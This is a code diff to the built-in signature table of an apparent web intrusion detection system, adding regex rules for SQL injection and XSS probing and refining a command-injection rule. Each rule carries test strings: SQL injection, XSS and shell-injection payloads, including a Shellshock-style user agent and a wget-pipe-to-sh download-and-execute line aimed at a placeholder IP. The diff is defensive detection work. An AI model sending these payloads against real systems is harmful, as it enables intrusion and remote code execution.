@@ -62,6 +62,21 @@ const std::vector<SignatureRule>& BuiltinSignatures() {
         "/x?id=1/**/UNION/**/SELECT/**/1,2", "/x?id=1 union distinct select version()"},
        {"/search?q=select+union", "/blog/union-station", "/search?q=union+select+committee",
         "/blog/union-select-committee-report", "/search?q=union%20station%20hours"}},
+      {"sqli-union-after-value", "http-sqli-probing", kUri,
+       R"((['"`)]|\b\d+)(\s|/\*.*\*/|\+)*union(\s|/\*.*\*/|\+)+(all(\s|\+)+|distinct(\s|\+)+)?select\b)",
+       {"/x?q=%27%20union%20select%20password%20from%20users--", "/x?id=-1+union+select+login,pass+from+users",
+        "/x?id=1)%20UNION%20ALL%20SELECT%20username%20FROM%20admin"},
+       {"/search?q=union+select+committee", "/blog/union-select-committee-report", "/search?q=2023+union+selection",
+        "/search?q=%22union%22+station"}},
+      // Fragments that are no proof alone, but that injection tools send by
+      // the dozen: counted in http-sqli-probing (10 distinct URIs in 1 s).
+      {"sqli-fragment", "http-sqli-probing", kUri,
+       R"(\?.*(\bunion(\s|/\*.*\*/|\+)+(all(\s|\+)+)?select\b|\b(sleep|pg_sleep|benchmark|load_file|chr|char|md5|hex|ascii|substr|substring|concat|version|database|user)\s*\(|,\s*null\s*,\s*null\b|\border\s+by\s+\d+\s*(--|#|$)|\b(and|or)\s+\d+\s*[=<>]|['"]\s*(and|or)\s|\bselect\b.*\bfrom\b.*\b(users?|admin|information_schema|dual|mysql|sys)\b))",
+       {"/x?id=1 union select 1", "/x?id=sleep(3)", "/x?q=a,null,null", "/x?id=1 order by 5--", "/x?id=1 and 2>1",
+        "/x?q=select+name+from+users", "/x?id=md5(1)", "/x?id=1' and 'a"},
+       {"/search?q=sleep+apnea", "/search?q=union+station", "/blog/sleep(3)", "/search?q=null+and+void",
+        "/search?q=order+by+price", "/search?q=mother%27s+day", "/x?a=1&b=2", "/search?q=select+from+menu"},
+       true},
       {"sqli-tautology", "http-sqli-probing", kUri,
        R"(['"]\s*(or|and|\|\||&&)\s+['"]?\w+['"]?\s*(=|<|>|like\b|is\b)\s*['"]?\w|\b(or|and)\s+(\d+)\s*=\s*\d+\b|['"]\s*(or|and)\s+(true|false|not)\b)",
        {"/products?id=1%27%20OR%20%271%27%3D%271", "/cat?id=1%20AND%201=1", "/login?u=admin%27+or+1%3D1--",
@@ -106,13 +121,27 @@ const std::vector<SignatureRule>& BuiltinSignatures() {
         "/x?q=alert(1)"},
        {"/blog/document-management", "/search?q=alert+fatigue", "/blog/alert-fatigue"}},
 
+      // Fragments counted in http-xss-probing (5 distinct URIs in 1 s).
+      {"xss-fragment", "http-xss-probing", kUri | kRef,
+       R"(\b(alert|prompt|confirm)\s*\(|\bon(error|load|mouseover|focus|toggle|pointerover)\s*=|\b(java|vb)script\s*:|<\s*(svg|img|iframe|body|details|object|embed)\b|\bsrcdoc\s*=|<\s*/\s*(title|textarea|style)\s*>)",
+       {"/x?q=alert(1)", "/x?q=x onerror=y", "/x?u=javascript:void", "/x?q=<svg>", "/x?q=</title>"},
+       {"/search?q=alert+fatigue", "/blog/onload-performance", "/search?q=javascript+tutorial", "/img/logo.svg",
+        "/x?title=hello"},
+       true},
+
       // ---- http-rce-probing: command injection, SSTI, code evaluation
       {"rce-shell-command", "http-rce-probing", kAnyText,
-       R"(([;|`]|&&)\s*(id|whoami|uname(\s+-a)?|ifconfig|ipconfig|cat\s+/etc/\w+|ls\s+-la|nc\s+-e|ncat\s|bash\s+-i|/bin/(ba|z|da)?sh|python[23]?\s+-c|perl\s+-e|php\s+-r|powershell)\b|\$\(\s*(id|whoami|uname|cat|ls|wget|curl|sleep|echo|nslookup|ping)\b|`\s*(id|whoami|uname|cat|ls|wget|curl|sleep|echo|nslookup|ping)\b[^`]*`)",
+       // A bare command word counts only where a shell would end it (the end
+       // of the field, a separator, a quote, an option): "U; id)" and
+       // "; id-ID;" in user agents and "&amp;id=" in escaped links are text.
+       R"(([;|`]|&&)\s*(cat\s+/etc/\w+|ls\s+-la|nc\s+-e|ncat\s|bash\s+-i|python[23]?\s+-c|perl\s+-e|php\s+-r|(id|whoami|uname|ifconfig|ipconfig|/bin/(ba|z|da)?sh|powershell)(\s*($|[;|&`#'"])|\s+-))|\$\(\s*(id|whoami|uname|cat|ls|wget|curl|sleep|echo|nslookup|ping)\b|`\s*(id|whoami|uname|cat|ls|wget|curl|sleep|echo|nslookup|ping)\b[^`]*`)",
        {"/ping?host=127.0.0.1%3B%24(id)", "/run?x=%60cat%20/etc/passwd%60", "/x?c=1|whoami", "ua:() { :; }; /bin/bash -c 'id'",
         "/x?h=1%26%26id",
-        "/x?h=a;cat /etc/passwd"},
-       {"/blog/shell-beach-trip", "/search?q=exec+chair", "/x?a=1&id=2", "/x?a=1&whoami=me", "/search?q=rock+%26+roll"}},
+        "/x?h=a;cat /etc/passwd", "/x?c=;id", "/x?c=%3Bid%23", "/x?c=1;uname -a", "/x?c=1'|id'", "ua:;whoami"},
+       {"/blog/shell-beach-trip", "/search?q=exec+chair", "/x?a=1&id=2", "/x?a=1&whoami=me", "/search?q=rock+%26+roll",
+        "ua:Opera/9.80 (J2ME/MIDP; Opera Mini/4.2.14912/870; U; id) Presto/2.4.15",
+        "ua:Mozilla/5.0 (Linux; U; Android 10; id-ID; Redmi Note 8) UCBrowser/13.4.0.1306 Mobile Safari/537.36",
+        "/view.php?cat=4&amp;id=12", "/x?a=1;identity=2"}},
       {"rce-download-exec", "http-rce-probing", kAnyText,
        R"(\b(wget|curl|fetch|tftp|busybox\s+wget)\s+(-[\w-]+\s+)*['"]?(https?|ftp|tftp)://|\|\s*(ba|z|da)?sh\b|\bchmod\s+[+0-7]*x?\s+/?(tmp|var/tmp|dev/shm)/|/tmp/[\w.-]+\s*;\s*\./)",
        {"/cgi-bin/test?cmd=;wget%20http://203.0.113.66/x.sh%20-O-%7Csh", "ua:curl http://203.0.113.66/x | sh",
